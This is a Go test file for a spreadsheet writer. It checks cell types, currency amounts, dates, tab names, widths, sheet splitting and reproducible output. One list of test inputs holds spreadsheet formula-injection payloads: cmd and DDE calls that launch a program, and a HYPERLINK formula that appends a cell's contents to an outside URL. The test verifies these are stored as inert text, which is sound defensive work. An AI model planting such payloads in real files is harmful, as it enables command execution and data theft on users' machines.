package sheet

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io"
	"math"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"jalon/internal/civil"
	"jalon/internal/money"
)

// packed writes a document.
func packed(t *testing.T, doc Document) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, doc); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// opened reads a workbook with a second pair of eyes.
func opened(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

// one writes a sheet of a column with the cells below its head.
func one(t *testing.T, cells ...Cell) *excelize.File {
	t.Helper()
	rows := make([][]Cell, len(cells))
	for i, c := range cells {
		rows[i] = []Cell{c}
	}
	return opened(t, packed(t, Document{Sheets: []Sheet{{Name: "S", Columns: []Column{{Title: "C"}}, Rows: Rows(rows)}}}))
}

// part gives a part of the package as it was packed.
func part(t *testing.T, data []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	text, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func TestCells(t *testing.T) {
	tests := []struct {
		name       string
		cell       Cell
		raw, shown string // stored, and as a spreadsheet writes it
		number     bool
	}{
		{"a text", Text("Archives départementales"), "Archives départementales", "Archives départementales", false},
		{"a number that is a name", Text("00123456700012"), "00123456700012", "00123456700012", false},
		{"a text like a share", Text("12 %"), "12 %", "12 %", false},
		{"blanks at both ends", Text("  a \n"), "  a \n", "  a \n", false},
		{"markup", Text(`<b>&amp;"'</b>`), `<b>&amp;"'</b>`, `<b>&amp;"'</b>`, false},
		{"what looks like an escape", Text("_x000D_ _x005F_"), "_x000D_ _x005F_", "_x000D_ _x005F_", false},
		{"a zero character", Text("a\x00\x1bb"), "ab", "ab", false},
		{"broken UTF-8", Text("a\xffb"), "a\ufffdb", "a\ufffdb", false},
		{"nothing", Text(""), "", "", false},
		{"the zero cell", Cell{}, "", "", false},
		{"a year", Int(2026), "2026", "2026", true},
		{"a number below zero", Int(-1234567), "-1234567", "-1234567", true},
		{"more digits than a number keeps", Int(math.MaxInt64), "9223372036854775807", "9223372036854775807", false},
		{"euros", Amount(123456789, "EUR"), "1234567.89", "1,234,567.89", true},
		{"a cent owed", Amount(-1, "EUR"), "-0.01", "-0.01", true},
		{"francs have no cents", Amount(2500, "RWF"), "2500", "2,500", true},
		{"dinars have three decimals", Amount(1234567, "TND"), "1234.567", "1,234.567", true},
		{"nothing owed", Amount(0, "EUR"), "0", "0.00", true},
		{"the longest exact amount", Amount(999_999_999_999_999, "EUR"), "9999999999999.99", "9,999,999,999,999.99", true},
		{"an amount that would be rounded", Amount(1_000_000_000_000_001, "EUR"), "10000000000000.01", "10000000000000.01", false},
		{"the lowest amount", Amount(math.MinInt64, "EUR"), "-92233720368547758.08", "-92233720368547758.08", false},
		{"a share", Percent(9740), "0.974", "97.40%", true},
		{"a share below zero", Percent(-1), "-0.0001", "-0.01%", true},
		{"more than all", Percent(12345), "1.2345", "123.45%", true},
		{"a day", Date(civil.D(2026, 11, 21)), "46347", "21/11/2026", true},
		{"a day of a leap year", Date(civil.D(2024, 2, 29)), "45351", "29/02/2024", true},
		{"the first day", Date(civil.D(1900, 3, 1)), "61", "01/03/1900", true},
		{"a day before all", Date(civil.D(1900, 2, 28)), "1900-02-28", "1900-02-28", false},
		{"the last day", Date(civil.D(9999, 12, 31)), "2958465", "31/12/9999", true},
		{"no day", Date(civil.Date{}), "", "", false},
	}
	cells := make([]Cell, len(tests))
	for i, tc := range tests {
		cells[i] = tc.cell
	}
	f := one(t, cells...)
	for i, tc := range tests {
		at := fmt.Sprintf("A%d", i+2)
		raw, err := f.GetCellValue("S", at, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		shown, err := f.GetCellValue("S", at)
		if err != nil {
			t.Fatal(err)
		}
		stored, err := f.GetCellType("S", at)
		if err != nil {
			t.Fatal(err)
		}
		number := stored == excelize.CellTypeUnset && raw != ""
		if raw != tc.raw || shown != tc.shown || number != tc.number {
			t.Errorf("%s: stored %q, shown %q, number %v; want %q, %q, %v", tc.name, raw, shown, number, tc.raw, tc.shown, tc.number)
		}
	}
}

// TestAmountsAreExact stores every amount of up to fifteen digits as the very number, in every kind of currency.
func TestAmountsAreExact(t *testing.T) {
	lot := rand.New(rand.NewPCG(2026, 11))
	currencies := []money.Currency{"EUR", "RWF", "TND"}
	var rows [][]Cell
	var want [][]string
	for range 2000 {
		var row []Cell
		var texts []string
		for _, c := range currencies {
			a := money.Amount(lot.Int64N(1_000_000_000_000_000)) >> lot.IntN(50)
			if lot.IntN(2) == 0 {
				a = -a
			}
			row, texts = append(row, Amount(a, c)), append(texts, a.Decimal(c))
		}
		rows, want = append(rows, row), append(want, texts)
	}
	columns := []Column{{Title: "EUR"}, {Title: "RWF"}, {Title: "TND"}}
	f := opened(t, packed(t, Document{Sheets: []Sheet{{Name: "S", Columns: columns, Rows: Rows(rows)}}}))
	got, err := f.GetRows("S", excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	for i, texts := range want {
		for k, text := range texts {
			a, err := money.Parse(got[i+1][k], currencies[k])
			if err != nil || a.Decimal(currencies[k]) != text {
				t.Fatalf("%s %s was stored as %q (%v)", text, currencies[k], got[i+1][k], err)
			}
		}
	}
}

// runnable are texts that spreadsheets or their importers have run.
var runnable = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	`=HYPERLINK("http://exemple.fr/?"&A1,"cliquez")`, "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", "{=1+1}", "-2+3+cmd|' /C calc'!A0", "0;=1+1", "1E+13", "TRUE", "#REF!", "http://exemple.fr",
}

// TestTextsStayTexts writes what would be a formula elsewhere, in cells and in heads.
func TestTextsStayTexts(t *testing.T) {
	var columns []Column
	var row []Cell
	for _, s := range runnable {
		columns, row = append(columns, Column{Title: s}), append(row, Text(s))
	}
	data := packed(t, Document{Title: "=1+1", Sheets: []Sheet{{Name: "=1+1", Columns: columns, Rows: Rows([][]Cell{row})}}})
	f := opened(t, data)
	for i, s := range runnable {
		for line := 1; line <= 2; line++ {
			at, _ := excelize.CoordinatesToCellName(i+1, line)
			value, err := f.GetCellValue("=1+1", at)
			if err != nil {
				t.Fatal(err)
			}
			formula, _ := f.GetCellFormula("=1+1", at)
			stored, _ := f.GetCellType("=1+1", at)
			if value != s || formula != "" || stored != excelize.CellTypeInlineString {
				t.Errorf("%s: %q came back as %q, formula %q, type %v", at, s, value, formula, stored)
			}
			id, _ := f.GetCellStyle("=1+1", at)
			if style, err := f.GetStyle(id); err != nil || style.NumFmt != textFormat {
				t.Errorf("%s: %q would become a formula when it is edited: format %+v, %v", at, s, style, err)
			}
		}
	}
	xml := part(t, data, "xl/worksheets/sheet1.xml")
	for _, forbidden := range []string{"<f>", "<f ", "<hyperlink", `t="s"`, `t="str"`, `t="e"`, `t="b"`} {
		if strings.Contains(xml, forbidden) {
			t.Errorf("the sheet holds %s", forbidden)
		}
	}
}

func TestLongTextsAreMarked(t *testing.T) {
	exact, long, astral := strings.Repeat("é", longestText), strings.Repeat("é", longestText+1), strings.Repeat("😀", longestText)
	f := one(t, Text(exact), Text(long), Text(astral))
	for i, want := range []string{exact, strings.Repeat("é", longestText-1) + "…", strings.Repeat("😀", (longestText-1)/2) + "…"} {
		got, err := f.GetCellValue("S", fmt.Sprintf("A%d", i+2))
		if err != nil || got != want {
			t.Errorf("text %d came back with %d bytes, want %d (%v)", i, len(got), len(want), err)
		}
	}
}

func TestHeaderAndWidths(t *testing.T) {
	data := packed(t, Document{Title: "Écarts", Sheets: []Sheet{{Name: "S", Columns: []Column{{Title: "Code"}, {Title: "Libellé de la dépense engagée"}, {Title: "X", Width: 40}, {Title: "Y", Width: 4000}}}}})
	f := opened(t, data)
	for column, want := range map[string]float64{"A": 12, "B": 31, "C": 40, "D": 255} {
		if got, err := f.GetColWidth("S", column); err != nil || got != want {
			t.Errorf("column %s is %v wide, want %v (%v)", column, got, want, err)
		}
	}
	// Some spreadsheets take a file for damaged whose columns stand in another order.
	if got := regexp.MustCompile(`<col min="(\d+)"`).FindAllString(part(t, data, "xl/worksheets/sheet1.xml"), -1); !slices.IsSorted(got) || len(got) != 4 {
		t.Errorf("columns in the order %v", got)
	}
	panes, err := f.GetPanes("S")
	if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes %+v, %v", panes, err)
	}
	id, _ := f.GetCellStyle("S", "A1")
	if style, err := f.GetStyle(id); err != nil || style.Font == nil || !style.Font.Bold {
		t.Errorf("style of the head: %+v, %v", style, err)
	}
	props, err := f.GetDocProps()
	if err != nil || props.Title != "Écarts" || props.Creator != "Jalon" {
		t.Errorf("properties %+v, %v", props, err)
	}
}

func TestTabs(t *testing.T) {
	long := "Programmation pluriannuelle des investissements"
	tests := []struct{ wanted, want string }{
		{"Budget", "Budget"}, {"budget", "budget (2)"}, {"BUDGET", "BUDGET (3)"}, {"a/b:c*d?e[f]g\\h", "a b c d e f g h"}, {"'guillemets'", "guillemets"}, {"", "1"}, {" ' ", "1 (2)"},
		{long, "Programmation pluriannuelle de…"}, {long, "Programmation pluriannuell… (2)"}, {strings.Repeat("😀", 20), strings.Repeat("😀", 15) + "…"}, {"a\x00\nb", "a b"},
	}
	var doc Document
	var want []string
	for _, tc := range tests {
		doc.Sheets, want = append(doc.Sheets, Sheet{Name: tc.wanted, Columns: []Column{{Title: "C"}}}), append(want, tc.want)
	}
	if got := opened(t, packed(t, doc)).GetSheetList(); !slices.Equal(got, want) {
		t.Errorf("tabs %q, want %q", got, want)
	}
}

// TestSheetsGoOn writes more rows than a sheet holds.
func TestSheetsGoOn(t *testing.T) {
	numbers := func(n int) Sheet {
		rows := make([][]Cell, n)
		for i := range rows {
			rows[i] = []Cell{Int(int64(i + 1))}
		}
		return Sheet{Name: fmt.Sprint("n=", n), Columns: []Column{{Title: "N"}}, Rows: Rows(rows)}
	}
	var b bytes.Buffer
	if err := write(&b, Document{Sheets: []Sheet{numbers(0), numbers(9), numbers(10), numbers(25)}}, 10); err != nil {
		t.Fatal(err)
	}
	f := opened(t, b.Bytes())
	got := map[string]string{}
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		got[name] = fmt.Sprint(rows[0], len(rows)-1, rows[len(rows)-1])
	}
	want := map[string]string{"n=0": "[N] 0 [N]", "n=9": "[N] 9 [9]", "n=10": "[N] 9 [9]", "n=10 (2)": "[N] 1 [10]", "n=25": "[N] 9 [9]", "n=25 (2)": "[N] 9 [18]", "n=25 (3)": "[N] 7 [25]"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("sheets %v, want %v", got, want)
	}
}

func TestWriteRefuses(t *testing.T) {
	broken := errors.New("connection lost")
	failing := func(yield func([]Cell, error) bool) {
		if yield([]Cell{Int(1)}, nil) {
			yield(nil, broken)
		}
	}
	column := []Column{{Title: "C"}}
	if err := Write(io.Discard, Document{Sheets: []Sheet{{Name: "S", Columns: column, Rows: failing}}}); !errors.Is(err, broken) {
		t.Errorf("error = %v, want the one of the source", err)
	}
	if err := Write(io.Discard, Document{Sheets: []Sheet{{Name: "S", Columns: column, Rows: Rows([][]Cell{{Int(1), Int(2)}})}}}); err == nil {
		t.Error("a row with more cells than columns was written")
	}
	full := errors.New("disk full")
	if err := Write(writerFunc(func([]byte) (int, error) { return 0, full }), Document{Sheets: []Sheet{{Name: "S", Columns: column}}}); !errors.Is(err, full) {
		t.Errorf("error = %v, want the one of the writer", err)
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

// TestSameBytes writes several sheets again and again: the order of parts and the time of day must not show.
func TestSameBytes(t *testing.T) {
	doc := func() Document {
		var d Document
		for i := range 6 {
			d.Sheets = append(d.Sheets, Sheet{Name: fmt.Sprint("Feuille ", i), Columns: []Column{{Title: "A"}, {Title: "B"}, {Title: "C"}},
				Rows: Rows([][]Cell{{Text("é"), Amount(int64Amount(i), "EUR"), Date(civil.D(2026, 11, 21))}, {Int(3), Percent(4), Amount(5, "RWF")}})})
		}
		return d
	}
	first := packed(t, doc())
	for range 10 {
		if !bytes.Equal(first, packed(t, doc())) {
			t.Fatal("the bytes differ from one writing to the next")
		}
	}
	z, err := zip.NewReader(bytes.NewReader(first), int64(len(first)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if !f.Modified.IsZero() && f.Modified.Year() > 1980 {
			t.Errorf("%s tells when it was written: %s", f.Name, f.Modified)
		}
	}
	today := regexp.MustCompile(`<dcterms:(created|modified)[^>]*>([^<]*)<`)
	for _, m := range today.FindAllStringSubmatch(part(t, first, "docProps/core.xml"), -1) {
		if m[2] != "2000-01-01T00:00:00Z" {
			t.Errorf("%s: %s", m[1], m[2])
		}
	}
}

func int64Amount(i int) money.Amount { return money.Amount(i * 12345) }
